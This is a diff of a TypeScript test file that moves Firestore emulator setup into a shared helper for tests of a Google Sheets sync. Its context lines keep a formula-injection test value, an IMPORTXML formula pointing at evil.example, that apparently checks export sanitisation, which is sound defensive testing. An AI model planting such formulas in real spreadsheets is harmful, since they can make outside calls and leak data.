@@ -18,12 +18,8 @@ import {
 import type { Firestore } from "firebase-admin/firestore";
 import { OAuth2Client } from "google-auth-library";
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
-import {
-  emulatorFirestore,
-  type FirestoreEmulator,
-  startFirestoreEmulator,
-} from "../../cli/src/stack/firestore-emulator.ts";
 import { localWork } from "../../cli/src/stack/local-deps.ts";
+import { useEmulator } from "./support/emulator.ts";
 import { seedLatest, storedRevision } from "./support/network.ts";
 import { type SheetsServer, startSheetsServer } from "./support/sheets-server.ts";
 
@@ -31,7 +27,7 @@ const SHEET = "1UnIoNsHeEt-2018";
 const TOKEN = "ya29.local-test-token";
 const network = generateNetwork({ size: 40, seed: 11 });
 const year = network.year;
-let emulator: FirestoreEmulator;
+const firestore = useEmulator("sheet");
 let db: Firestore;
 let api: SheetsServer;
 let deps: SheetDeps;
@@ -40,8 +36,7 @@ let deps: SheetDeps;
 const TRICKY = '=IMPORTXML("http://evil.example";"//a")';
 
 beforeAll(async () => {
-  emulator = await startFirestoreEmulator(`demo-sheet-${process.pid}`);
-  db = emulatorFirestore(emulator);
+  db = firestore().db;
   api = await startSheetsServer(SHEET, TOKEN);
   const auth = new OAuth2Client();
   auth.setCredentials({ access_token: TOKEN, expiry_date: Date.now() + 3_600_000 });
@@ -73,7 +68,6 @@ beforeAll(async () => {
 });
 afterAll(async () => {
   await api.close();
-  emulator.stop();
 });
 beforeEach(() => {
   api.requests.length = 0;
